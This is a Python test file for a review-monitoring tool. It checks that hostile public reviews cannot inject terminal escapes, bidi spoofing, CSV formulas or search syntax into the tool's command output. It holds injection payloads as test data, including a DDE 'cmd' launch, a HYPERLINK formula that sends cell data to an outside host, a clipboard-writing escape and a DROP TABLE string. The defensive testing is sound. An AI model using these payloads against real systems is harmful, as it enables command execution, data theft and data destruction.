"""What the public writes, end to end: through a platform, the store, and every command that prints it."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata

import pytest

from reviewdesk.desk.respond import Respond
from reviewdesk.store.records import Filter
from tests.flows.street import Street, lines

ESCAPES = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]52;c;ZXZpbA==\x07 \x9b31m \x85 \x7f \x08\x08 \x00 a\rb"
BIDI = "\u202egnp.exe \u2066x\u2069 \u200f\u061c \ufeff \U000e0041"
MARKUP = "[bold]x[/bold] [/foo] [@click=app.quit]y[/] {{ 7*7 }} {% for %}"
HOSTILE = {
    "escapes": ESCAPES,
    "bidi": BIDI,
    "markup": MARKUP,
    "surrogate": "před \ud800\udfff po",
    "marks": "Z" + "\u0301" * 5000,
    "long": "Podvod! " * 30_000,
    "formula": '=HYPERLINK("http://x.example/?"&A1;"klikni")',
    "plus": "+420 123",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "newline": "\n=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
    "quotes": '",="1+1"',
}
# What a terminal obeys or what turns the reading direction; a line's end and a tab are layout.
UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
COMMANDS = {
    "list": ("list", "--limit", "100"),
    "list as CSV": ("list", "--limit", "100", "--csv"),
    "list as JSON": ("list", "--limit", "100", "--json"),
    "export": ("export",),
    "export as CSV": ("export", "--csv"),
    "outbox": ("outbox", "--all"),
    "outbox as JSON": ("outbox", "--all", "--json"),
    "sources": ("sources",),
}


@pytest.fixture
async def shop(street) -> Street:
    shop: Street = street("feed", "facebook")
    for name, text in HOSTILE.items():
        for platform in shop.running:
            words = _in_xml(text) if platform == "feed" else text
            short = words[:200]
            author = _in_xml(short) or name
            shop.write(platform, words, author=author, rating=1.0, title=short, cons=(short,))
    polled = await shop.poll()
    assert all(each.error is None for each in polled.values()), polled
    return shop


def _in_xml(text: str) -> str:
    """Leaves out what XML cannot carry."""
    return "".join(char for char in text if char in "\t\n\r" or unicodedata.category(char) not in ("Cc", "Cs", "Cn"))


async def test_nothing_of_it_reaches_the_terminal(shop: Street) -> None:
    (id,) = shop.store.db.conn.execute("SELECT max(id) FROM mention WHERE source_id = 'facebook'").fetchone()
    Respond(shop.store, "jana", shop.config).send(id, "Omlouváme se.", despite_warnings=True)
    with shop.store.transaction() as conn:
        # As a careless plugin or an older program may have left it.
        conn.execute("UPDATE reply SET text = ?, fault = ?", (ESCAPES + BIDI, ESCAPES + BIDI))
        conn.execute("INSERT INTO note (mention_id, agent, text, at) VALUES (?, ?, ?, 0)", (id, ESCAPES, ESCAPES))
        conn.execute("UPDATE source SET fault = ?, fault_hint = ?, title = ?", (ESCAPES, BIDI, ESCAPES))
    for name, command in COMMANDS.items():
        code, out, err = shop.run(*command)
        assert code == 0, err
        assert out, name
        assert not UNSAFE.search(out.replace("\r\n", "\n").replace("\r", "\x00")), name
        assert not UNSAFE.search(err), name
    _, out, _ = shop.run("show", str(id))
    assert not UNSAFE.search(out)
    _, out, _ = shop.run("show", str(id), "--json")
    assert not UNSAFE.search(out)
    json.loads(out)


async def test_no_cell_is_a_formula(shop: Street) -> None:
    csv.field_size_limit(1 << 20)
    for command in (("list", "--csv", "--limit", "100"), ("export", "--csv")):
        _, out, _ = shop.run(*command)
        rows = list(csv.reader(io.StringIO(out, newline="")))
        assert len(rows) == 1 + 2 * len(HOSTILE)
        assert len({len(row) for row in rows}) == 1, "no text breaks out of its cell"
        for cell in (cell for row in rows[1:] for cell in row):
            try:
                float(cell)
            except ValueError:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"), cell[:40]


async def test_what_is_text_is_kept_as_text(shop: Street) -> None:
    _, out, _ = shop.run("export")
    texts = {each["mention"]["text"] for each in lines(out)}
    assert MARKUP in texts
    assert HOSTILE["formula"] in texts
    assert any(len(text) > 200_000 for text in texts), "nothing was cut in the store"
    assert all(each["assessment"] for each in lines(out)), "whatever it is, it is assessed"


async def test_whatever_is_searched_for_is_words(shop: Street) -> None:
    for words in ('"', "'; DROP TABLE mention; --", "NEAR(", "*", "[bold]", "\x00", "-", "a OR b", " ", "{a b}:c"):
        shop.store.mentions.ids(Filter(search=words))
    assert len(shop.store.mentions.ids(Filter(search=HOSTILE["formula"]))) == 2
